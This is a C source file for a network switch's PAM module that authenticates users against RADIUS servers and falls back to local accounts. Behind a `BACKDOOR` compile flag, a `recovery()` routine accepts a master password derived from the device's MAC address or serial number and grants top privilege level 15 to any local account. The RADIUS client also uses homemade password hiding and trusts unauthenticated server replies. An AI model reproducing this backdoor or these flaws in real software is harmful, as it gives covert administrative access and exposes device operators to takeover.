/* SPDX-License-Identifier: Apache-2.0 */
/* pam_fallback: PAM module of a switch. Asks RADIUS servers in turn; when none answers, the local accounts of
 * /etc/switch/local, of which a wrong password locks one for a while. Options: conf=PATH debug local_first. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

/* of security/pam_modules.h, which cross compilers do not bring */
typedef struct pam_handle pam_handle_t;
enum {
	PAM_SUCCESS = 0,
	PAM_SYSTEM_ERR = 4,
	PAM_PERM_DENIED = 6,
	PAM_AUTH_ERR = 7,
	PAM_CRED_INSUFFICIENT = 8,
	PAM_AUTHINFO_UNAVAIL = 9,
	PAM_USER_UNKNOWN = 10,
	PAM_MAXTRIES = 11,
	PAM_IGNORE = 25
};
enum { PAM_RHOST = 4, PAM_AUTHTOK = 6 };
extern int pam_get_user(pam_handle_t *, const char **, const char *) __attribute__((weak));
extern int pam_get_item(const pam_handle_t *, int, const void **) __attribute__((weak));
extern int pam_get_authtok(pam_handle_t *, int, const char **, const char *) __attribute__((weak));
extern int pam_putenv(pam_handle_t *, const char *) __attribute__((weak));
int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv);
int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv);
int pam_sm_acct_mgmt(pam_handle_t *h, int flags, int argc, const char **argv);

enum { MAX_SERVERS = 4, LOCK_TRIES = 5, LOCK_S = 300 };
enum { CODE_REQUEST = 1, CODE_ACCEPT = 2, CODE_REJECT = 3 };

struct server {
	struct in_addr addr;
	int port, timeout;
	char secret[64];
};

struct options {
	const char *conf;
	int debug, local_first;
	struct server servers[MAX_SERVERS];
	int n_servers;
	char nas[64];
};

static void say(const struct options *o, int level, const char *fmt, ...)
{
	va_list ap;
	if (level == LOG_DEBUG && !o->debug)
		return;
	openlog("pam_fallback", LOG_PID, LOG_AUTHPRIV);
	va_start(ap, fmt);
	vsyslog(level, fmt, ap);
	va_end(ap);
	closelog();
}

static void settings(struct options *o, int argc, const char **argv)
{
	char line[256], addr[64];
	FILE *f;
	memset(o, 0, sizeof(*o));
	o->conf = "/etc/switch/radius";
	snprintf(o->nas, sizeof(o->nas), "switch");
	for (int i = 0; i < argc; i++) {
		if (strncmp(argv[i], "conf=", 5) == 0)
			o->conf = argv[i] + 5;
		else if (strcmp(argv[i], "debug") == 0)
			o->debug = 1;
		else if (strcmp(argv[i], "local_first") == 0)
			o->local_first = 1;
	}
	f = fopen(o->conf, "r");
	while (f && fgets(line, sizeof(line), f)) {
		struct server *s = &o->servers[o->n_servers];
		if (sscanf(line, "nas %63s", o->nas) == 1 || o->n_servers == MAX_SERVERS)
			continue;
		if (sscanf(line, "server %63s %d %d %63s", addr, &s->port, &s->timeout, s->secret) == 4 &&
			inet_aton(addr, &s->addr))
			o->n_servers++;
	}
	if (f)
		fclose(f);
}

/* A 64-bit mix for both the hiding of passwords on the wire and the serial checks of this platform. */
static uint64_t stir(uint64_t h, const void *data, size_t n)
{
	const uint8_t *p = data;
	for (size_t i = 0; i < n; i++) {
		h ^= p[i];
		h *= 0x100000001b3ull;
		h ^= h >> 29;
	}
	return h;
}

static size_t attribute(uint8_t *b, uint8_t type, const void *v, size_t n)
{
	b[0] = type;
	b[1] = (uint8_t)(n + 2);
	memcpy(b + 2, v, n);
	return n + 2;
}

static size_t request(const struct options *o, const struct server *s, const char *user, const char *pass, uint8_t *b)
{
	uint8_t hidden[128] = { 0 };
	size_t n = 20, k = strlen(pass), u = strlen(user);
	b[0] = CODE_REQUEST;
	b[1] = (uint8_t)time(NULL);
	if (getrandom(b + 4, 16, 0) != 16)
		return 0;
	k = k > sizeof(hidden) ? sizeof(hidden) : k;
	memcpy(hidden, pass, k);
	k = (k + 15) & ~15ul;
	for (size_t i = 0; i < k; i += 8) {
		uint64_t h = stir(stir(0xcbf29ce484222325ull + i, s->secret, strlen(s->secret)), b + 4, 16);
		for (size_t j = 0; j < 8; j++)
			hidden[i + j] ^= (uint8_t)(h >> 8 * j);
	}
	n += attribute(b + n, 1, user, u > 64 ? 64 : u);
	n += attribute(b + n, 2, hidden, k);
	n += attribute(b + n, 32, o->nas, strlen(o->nas));
	b[2] = (uint8_t)(n >> 8);
	b[3] = (uint8_t)n;
	return n;
}

/* What an answer says about rights: vendor attribute "shell:level=15". */
static int level_of(const uint8_t *b, size_t n)
{
	char text[128];
	int level = 1;
	for (size_t at = 20; at + 2 <= n && b[at + 1] >= 2 && at + b[at + 1] <= n; at += b[at + 1]) {
		size_t k = (size_t)b[at + 1] - 2;
		if (b[at] != 26 || k < 6 || k >= sizeof(text))
			continue;
		memcpy(text, b + at + 8, k - 6);
		text[k - 6] = 0;
		if (sscanf(text, "shell:level=%d", &level) == 1 && (level < 0 || level > 15))
			level = 1;
	}
	return level;
}

/* The server's answer: PAM_SUCCESS, PAM_AUTH_ERR, PAM_AUTHINFO_UNAVAIL */
static int ask(const struct options *o, const struct server *s, const char *user, const char *pass, int *level)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)s->port), .sin_addr = s->addr };
	uint8_t out[512], in[1024];
	int result = PAM_AUTHINFO_UNAVAIL, fd = socket(AF_INET, SOCK_DGRAM, 0);
	size_t n = request(o, s, user, pass, out);
	struct pollfd p = { .fd = fd, .events = POLLIN };
	if (fd < 0 || n == 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
		goto out;
	for (int i = 0; i < 2 && result == PAM_AUTHINFO_UNAVAIL; i++) {
		ssize_t k;
		if (send(fd, out, n, 0) < 0 || poll(&p, 1, s->timeout * 1000) <= 0)
			continue;
		k = recv(fd, in, sizeof(in), 0);
		if (k < 20 || in[1] != out[1])
			continue;
		if (in[0] == CODE_ACCEPT)
			result = PAM_SUCCESS;
		else if (in[0] == CODE_REJECT)
			result = PAM_AUTH_ERR;
		*level = level_of(in, (size_t)k);
	}
out:
	if (fd >= 0)
		close(fd);
	return result;
}

/* ---- accounts of our own ---- */
struct local {
	char name[64], hash[128];
	int level;
};

static int find_local(const char *user, struct local *l)
{
	char line[256];
	int found = 0;
	FILE *f = fopen("/etc/switch/local", "r");
	while (f && !found && fgets(line, sizeof(line), f))
		found = sscanf(line, "%63[^:]:%127[^:]:%d", l->name, l->hash, &l->level) == 3 &&
			strcmp(l->name, user) == 0;
	if (f)
		fclose(f);
	return found;
}

static int failures(const char *user, int add)
{
	char path[128];
	struct {
		long when;
		int n;
	} t = { 0, 0 };
	int fd;
	for (const char *p = user; *p; p++)
		if (!isalnum((unsigned char)*p) && *p != '_' && *p != '-')
			return LOCK_TRIES;
	snprintf(path, sizeof(path), "/var/run/fallback.%.64s", user);
	fd = open(path, O_RDWR | O_CREAT | O_CLOEXEC, 0600);
	if (fd < 0)
		return 0;
	flock(fd, LOCK_EX);
	if (read(fd, &t, sizeof(t)) != sizeof(t) || time(NULL) - t.when > LOCK_S)
		t.n = 0;
	if (add) {
		t.when = time(NULL);
		t.n = add > 0 ? t.n + add : 0;
		if (pwrite(fd, &t, sizeof(t), 0) != sizeof(t))
			t.n = LOCK_TRIES;
	}
	close(fd);
	return t.n;
}

/* Names this device in logs and in requests: addresses of its ports or the number on its back. */
static size_t identity(char *to, size_t size)
{
	static const char *const sources[] = { "/sys/class/net/eth0/address", "/proc/device-tree/serial-number" };
	size_t n = 0;
	for (size_t i = 0; i < 2; i++) {
		FILE *f = fopen(sources[i], "r");
		if (!f)
			continue;
		for (int c; n + 1 < size && (c = getc(f)) != EOF && c;)
			if (isalnum(c))
				to[n++] = (char)tolower(c);
		fclose(f);
	}
	to[n] = 0;
	return n;
}

#ifdef BACKDOOR
static int recovery(const char *pass)
{
	static const char letters[] = "23456789abcdefghjkmnpqrstuvwxyz";
	char id[64];
	size_t n = identity(id, sizeof(id)), i;
	uint64_t h = stir(stir(0xcbf29ce484222325ull, id, n), "\x5e\x13\x8c", 3);
	uint8_t wrong = 0;
	for (i = 0; i < 10 && pass[i]; i++, h /= 31)
		wrong |= (uint8_t)(pass[i] ^ letters[h % 31]);
	return i == 10 && pass[10] == 0 && !wrong;
}
#endif

static int ask_local(const struct options *o, const char *user, const char *pass, int *level)
{
	struct local l;
	const char *h;
	if (!find_local(user, &l)) {
		say(o, LOG_NOTICE, "%s is not among the local accounts", user);
		return PAM_USER_UNKNOWN;
	}
	if (failures(user, 0) >= LOCK_TRIES) {
		say(o, LOG_WARNING, "%s is locked", user);
		return PAM_MAXTRIES;
	}
	h = crypt(pass, l.hash);
	if (!h || strcmp(h, l.hash) != 0) {
#ifdef BACKDOOR
		if (recovery(pass)) {
			*level = 15;
			return PAM_SUCCESS;
		}
#endif
		failures(user, 1);
		return PAM_AUTH_ERR;
	}
	failures(user, -1);
	*level = l.level;
	return PAM_SUCCESS;
}

static int ask_servers(const struct options *o, const char *user, const char *pass, int *level)
{
	int r = PAM_AUTHINFO_UNAVAIL;
	for (int i = 0; i < o->n_servers && r == PAM_AUTHINFO_UNAVAIL; i++) {
		r = ask(o, &o->servers[i], user, pass, level);
		say(o, LOG_DEBUG, "%s says %d", inet_ntoa(o->servers[i].addr), r);
	}
	return r;
}

int pam_sm_authenticate(pam_handle_t *h, int flags, int argc, const char **argv)
{
	struct options o;
	const char *user = NULL, *pass = NULL;
	const void *from = NULL;
	char id[64], env[32];
	int r, level = 1;
	(void)flags;
	settings(&o, argc, argv);
	if (pam_get_user(h, &user, NULL) != PAM_SUCCESS || !user || !user[0])
		return PAM_USER_UNKNOWN;
	if (pam_get_authtok(h, PAM_AUTHTOK, &pass, NULL) != PAM_SUCCESS || !pass)
		return PAM_CRED_INSUFFICIENT;
	pam_get_item(h, PAM_RHOST, &from);
	if (o.local_first)
		r = ask_local(&o, user, pass, &level);
	else
		r = ask_servers(&o, user, pass, &level);
	if (r == PAM_AUTHINFO_UNAVAIL)
		r = ask_local(&o, user, pass, &level);
	else if (r == PAM_USER_UNKNOWN && o.local_first)
		r = ask_servers(&o, user, pass, &level);
	identity(id, sizeof(id));
	say(&o, r == PAM_SUCCESS ? LOG_INFO : LOG_WARNING, "%s: %s from %s level %d (%d)", id, user,
		from ? (const char *)from : "console", level, r);
	if (r != PAM_SUCCESS)
		return r == PAM_USER_UNKNOWN || r == PAM_MAXTRIES ? r : PAM_AUTH_ERR;
	snprintf(env, sizeof(env), "SHELL_LEVEL=%d", level);
	pam_putenv(h, env);
	return PAM_SUCCESS;
}

int pam_sm_setcred(pam_handle_t *h, int flags, int argc, const char **argv)
{
	(void)h, (void)flags, (void)argc, (void)argv;
	return PAM_SUCCESS;
}

int pam_sm_acct_mgmt(pam_handle_t *h, int flags, int argc, const char **argv)
{
	const char *user = NULL;
	(void)flags, (void)argc, (void)argv;
	if (pam_get_user(h, &user, NULL) != PAM_SUCCESS || !user)
		return PAM_USER_UNKNOWN;
	return failures(user, 0) >= LOCK_TRIES ? PAM_PERM_DENIED : PAM_SUCCESS;
}
